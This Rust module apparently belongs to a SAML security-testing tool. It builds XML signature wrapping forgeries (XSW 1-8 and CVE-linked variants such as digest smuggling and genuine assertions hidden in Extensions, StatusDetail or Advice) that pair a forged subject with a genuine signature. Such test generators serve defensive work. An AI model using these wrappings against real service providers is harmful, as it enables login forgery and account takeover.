//! Signature wrapping ("On Breaking SAML", 2012, and later variants): a forged assertion with a genuine signature.
//!
//! The signature of the genuine part is valid in all of them.

use super::{SignedElements, forge_subject, step};
use crate::saml::names::{DSIG, RESPONDER, SUCCESS};
use crate::saml::plan::Plan;
use crate::saml::signature::Digest;
use crate::xml::{Element, Node};

/// The ID of the forged element.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ids {
    /// A new ID.
    Fresh,
    /// The ID of the genuine element, which is then duplicated.
    Duplicate,
}

/// The positions of the genuine and the forged element.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Wrapping {
    /// XSW 1: a forged response; the genuine one is in its signature.
    One(Ids),
    /// XSW 2: a forged response; the genuine one is before its signature.
    Two(Ids),
    /// XSW 3: a forged assertion before the genuine one.
    Three(Ids),
    /// XSW 4: a forged assertion around the genuine one.
    Four(Ids),
    /// XSW 5: a forged assertion with the signature; the genuine one at the end.
    Five(Ids),
    /// XSW 6: as 5, and the genuine one is in the signature.
    Six(Ids),
    /// XSW 7: a forged assertion in `Extensions`, before the genuine one.
    Seven(Ids),
    /// XSW 8: as 6, in a `ds:Object`.
    Eight(Ids),
    /// A forged assertion after the genuine one (CVE-2022-41912).
    EvilAfter,
    /// A forged assertion replaces the genuine one, which is in `Extensions`.
    GenuineInExtensions,
    /// A forged assertion replaces the genuine one, which is in `StatusDetail`.
    GenuineInStatusDetail,
    /// A forged assertion replaces the genuine one, which is in its `Advice`.
    GenuineInAdvice,
    /// A forged assertion whose digest is in `StatusDetail` (CVE-2024-45409).
    DigestSmuggle,
    /// A forged response contains the genuine response.
    ResponseInResponse,
    /// A forged response contains a genuine signed error response in its signature.
    SignedErrorDecoy,
    /// Two signed assertions about two users.
    TwoAssertions,
    /// The assertion's signature is moved to the response.
    SignatureMoved,
    /// The assertion has its signature twice.
    SignatureTwice,
    /// Response and assertion are signed, and the signature of the assertion is removed.
    InnerSignatureRemoved,
    /// A forged assertion replaces the one in a signed response.
    Replaced,
}

impl Wrapping {
    pub(super) fn signed(self) -> SignedElements {
        match self {
            Self::One(_)
            | Self::Two(_)
            | Self::ResponseInResponse
            | Self::SignedErrorDecoy
            | Self::Replaced => SignedElements::Response,
            Self::InnerSignatureRemoved => SignedElements::Both,
            Self::Three(_)
            | Self::Four(_)
            | Self::Five(_)
            | Self::Six(_)
            | Self::Seven(_)
            | Self::Eight(_)
            | Self::EvilAfter
            | Self::GenuineInExtensions
            | Self::GenuineInStatusDetail
            | Self::GenuineInAdvice
            | Self::DigestSmuggle
            | Self::TwoAssertions
            | Self::SignatureMoved
            | Self::SignatureTwice => SignedElements::Assertion,
        }
    }

    pub(super) fn apply(self, plan: &mut Plan) {
        if self == Self::SignedErrorDecoy {
            // The provider signs an error response; the rest is forged.
            let genuine = plan.draft.element([]);
            let assertion = plan
                .draft
                .assertion
                .as_ref()
                .map(|assertion| assertion.element());
            plan.draft.assertion = None;
            plan.draft.status = vec![RESPONDER.to_owned()];
            plan.after_response_signature.push(step(move |response| {
                let mut evil = genuine.clone();
                evil.set("ID", "_forged-response");
                let mut assertion = assertion.clone().unwrap_or_default();
                forge_subject(&mut assertion);
                evil.append(assertion);
                let mut signed_error = response.clone();
                if let Some(mut signature) = signed_error.take("Signature") {
                    signature.append(Element::new("ds:Object").child(signed_error));
                    evil.insert_after("Issuer", signature);
                }
                *response = evil;
            }));
            return;
        }
        if self == Self::TwoAssertions {
            let other = plan.draft.assertion.clone();
            plan.second_assertion = other.map(|mut other| {
                other.id = Some("_another-assertion".to_owned());
                if let Some(name_id) = &mut other.name_id {
                    name_id.value = vec![Node::Text("00u-bob".to_owned())];
                }
                other
            });
            return;
        }
        plan.after_response_signature.push(step(move |response| {
            self.wrap(response);
        }));
    }

    /// Applies the wrapping; `None` if an expected element is missing, which a test of this crate would detect.
    fn wrap(self, response: &mut Element) -> Option<()> {
        let genuine_response = response.clone();
        let genuine = response.find("Assertion")?.clone();
        let place = response.place_of("Assertion")?;
        let (mut bare, signature) = (genuine.clone(), genuine.find("Signature").cloned());
        bare.take("Signature");
        let forged = |ids| {
            let mut forged = bare.clone();
            if ids == Ids::Fresh {
                forged.set("ID", "_forged-assertion");
            }
            forge_subject(&mut forged);
            forged
        };
        let forged_response = |ids| {
            let mut forged = genuine_response.clone();
            let signature = forged.take("Signature")?;
            let bare = forged.clone();
            if ids == Ids::Fresh {
                forged.set("ID", "_forged-response");
                forged.find_mut("Assertion")?.set("ID", "_forged-assertion");
            }
            forge_subject(forged.find_mut("Assertion")?);
            Some((forged, bare, signature))
        };
        let at_place = |response: &mut Element, element: Element| {
            response.children[place] = Node::Element(element);
        };
        match self {
            Self::One(ids) => {
                let (mut forged, bare, mut signature) = forged_response(ids)?;
                signature.append(bare);
                forged.insert_after("Issuer", signature);
                *response = forged;
            }
            Self::Two(ids) => {
                let (mut forged, bare, signature) = forged_response(ids)?;
                forged.insert_after("Issuer", signature);
                forged.insert_after("Issuer", bare);
                *response = forged;
            }
            Self::Three(ids) => {
                let node = Node::Element(forged(ids));
                response.children.insert(place, node);
            }
            Self::Four(ids) => at_place(response, forged(ids).child(genuine)),
            Self::Five(ids) => {
                let mut forged = forged(ids);
                forged.insert_after("Issuer", signature?);
                at_place(response, forged);
                response.append(bare);
            }
            Self::Six(ids) => {
                let mut forged = forged(ids);
                forged.insert_after("Issuer", signature?.child(bare));
                at_place(response, forged);
            }
            Self::Seven(ids) => {
                let extensions = Element::new("samlp:Extensions").child(forged(ids));
                response.insert_after("Issuer", extensions);
            }
            Self::Eight(ids) => {
                let mut forged = forged(ids);
                let object = Element::new("ds:Object").child(bare);
                forged.insert_after("Issuer", signature?.child(object));
                at_place(response, forged);
            }
            Self::EvilAfter => response.append(forged(Ids::Fresh)),
            Self::GenuineInExtensions => {
                at_place(response, forged(Ids::Fresh));
                let extensions = Element::new("samlp:Extensions").child(genuine);
                response.insert_after("Issuer", extensions);
            }
            Self::GenuineInStatusDetail => {
                at_place(response, forged(Ids::Fresh));
                let detail = Element::new("samlp:StatusDetail").child(genuine);
                response.find_mut("Status")?.append(detail);
            }
            Self::GenuineInAdvice => {
                let mut forged = forged(Ids::Fresh);
                forged.insert_after("Conditions", Element::new("saml:Advice").child(genuine));
                at_place(response, forged);
            }
            Self::DigestSmuggle => {
                let mut forged = forged(Ids::Duplicate);
                let digest = Digest::Sha256.of(&forged.canonical(&[]));
                forged.insert_after("Issuer", signature?);
                at_place(response, forged);
                let smuggled = Element::new("ds:DigestValue")
                    .with("xmlns:ds", DSIG)
                    .text(digest.ok()?);
                let detail = Element::new("samlp:StatusDetail").child(smuggled);
                response.find_mut("Status")?.append(detail);
            }
            Self::ResponseInResponse => {
                let success = Element::new("samlp:StatusCode").with("Value", SUCCESS);
                let mut outer = Element {
                    children: Vec::new(),
                    ..genuine_response.clone()
                };
                outer.set("ID", "_forged-response");
                outer.append(genuine_response.find("Issuer")?.clone());
                outer.append(Element::new("samlp:Status").child(success));
                outer.append(forged(Ids::Fresh));
                outer.append(genuine_response);
                *response = outer;
            }
            Self::SignatureMoved => {
                at_place(response, bare);
                response.insert_after("Issuer", signature?);
            }
            Self::SignatureTwice => {
                let mut twice = genuine;
                twice.insert_after("Issuer", signature?);
                at_place(response, twice);
            }
            Self::InnerSignatureRemoved => at_place(response, bare),
            Self::Replaced => at_place(response, forged(Ids::Duplicate)),
            Self::SignedErrorDecoy | Self::TwoAssertions => return None,
        }
        Some(())
    }
}
